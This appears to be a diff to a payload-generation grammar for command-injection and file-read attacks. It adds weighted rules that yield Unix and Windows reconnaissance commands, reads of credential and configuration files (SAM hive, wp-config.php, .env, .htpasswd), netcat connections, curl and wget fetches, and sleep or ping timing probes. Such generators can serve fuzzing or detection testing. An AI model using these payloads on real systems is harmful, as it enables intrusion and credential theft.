@@ -156,7 +156,27 @@ u_file:
   /var/www/‹syl›/‹.env¦config.php¦wp-config.php¦config/database.yml¦.git/config¦settings.py¦.htpasswd›
   /var/log/‹syl›/‹access.log¦error.log¦access_log›
 w_file = boot.ini¦windows/win.ini¦windows/system32/drivers/etc/hosts¦windows/system.ini¦winnt/win.ini¦windows/repair/sam¦windows/system32/config/sam¦windows/system32/config/SYSTEM¦windows/php.ini¦inetpub/wwwroot/web.config¦inetpub/logs/logfiles¦Users/Administrator/NTUser.dat¦windows/debug/NetSetup.log¦windows/iis.log¦xampp/apache/conf/httpd.conf¦xampp/apache/logs/access.log¦xampp/phpMyAdmin/config.inc.php¦apache/logs/error.log¦windows/system32/inetsrv/config/applicationHost.config¦windows/Panther/Unattend.xml¦ProgramData/MySQL/my.ini¦Program Files/Apache Group/Apache2/conf/httpd.conf¦pagefile.sys¦Users/Administrator/Desktop/passwords.txt¦windows/System32/license.rtf¦autoexec.bat¦WINDOWS/system32/eula.txt
-ucmd0 = id¦whoami¦uname -a¦ls¦ls -la¦pwd¦ps aux¦ps -ef¦ifconfig¦ip a¦netstat -an¦w¦who¦hostname¦env¦cat /etc/passwd¦cat /etc/issue¦uptime¦df -h¦last¦printenv¦set¦ls -al /¦ls /tmp¦ss -tlnp¦crontab -l¦sudo -l¦history¦groups¦lsb_release -a¦arp -a¦mount¦dmesg¦lscpu¦free -m¦which python¦which wget¦nproc¦uname
+ucmd00 = id¦whoami¦uname -a¦ls¦ls -la¦pwd¦ps aux¦ps -ef¦ifconfig¦ip a¦netstat -an¦w¦who¦hostname¦env¦cat /etc/passwd¦cat /etc/issue¦uptime¦df -h¦last¦printenv¦set¦ls -al /¦ls /tmp¦ss -tlnp¦crontab -l¦sudo -l¦history¦groups¦lsb_release -a¦arp -a¦mount¦dmesg¦lscpu¦free -m¦which python¦which wget¦nproc¦uname
+ucmd0:
+  3×‹ucmd00›
+  2×‹ucmd1›
+ucmd1:
+  2×cat ‹u_file›
+  ls ‹-l¦-la¦-R¦-alh› ‹/¦/tmp¦/var/www¦/home¦/etc¦/root¦..›
+  sleep ‹#1-30›
+  ping -c ‹#1-30› ‹host›
+  2×nslookup ‹host›
+  2×curl ‹url›
+  wget ‹url›
+  curl ‹host›/‹rnd›
+  echo ‹rnd›
+  touch /tmp/‹rnd›
+  id>/tmp/‹rnd›
+  nc ‹ip› ‹port›
+  ‹head¦tail¦tac¦nl¦base64› ‹u_file›
+  expr ‹#10-99999› + ‹#10-99999›
+  dig ‹host›
+  rm -f /tmp/‹rnd›
 ucmd:
   5×‹ucmd0›
   cat ‹u_file›
@@ -189,7 +209,17 @@ ucmd:
   useradd ‹syl›
   passwd ‹user›
   getent hosts ‹host›
-wcmd0 = whoami¦ver¦dir¦ipconfig¦ipconfig /all¦net user¦systeminfo¦hostname¦tasklist¦set¦dir c:\¦net view¦netstat -ano¦type c:\boot.ini¦type C:\Windows\win.ini¦net localgroup administrators¦whoami /priv¦arp -a¦route print¦query user¦wmic os get caption¦quser¦cmdkey /list¦schtasks /query¦wmic process list
+wcmd00 = whoami¦ver¦dir¦ipconfig¦ipconfig /all¦net user¦systeminfo¦hostname¦tasklist¦set¦dir c:\¦net view¦netstat -ano¦type c:\boot.ini¦type C:\Windows\win.ini¦net localgroup administrators¦whoami /priv¦arp -a¦route print¦query user¦wmic os get caption¦quser¦cmdkey /list¦schtasks /query¦wmic process list
+wcmd0:
+  3×‹wcmd00›
+  ping ‹host›
+  nslookup ‹host›
+  type ‹c¦C›:\‹w_file›
+  dir c:\‹az›
+  echo ‹rnd›
+  ping -n ‹#1-30› 127.0.0.1
+  net user ‹syl›
+  curl ‹url›
 wcmd:
   5×‹wcmd0›
   type ‹c¦C›:\‹w_file›
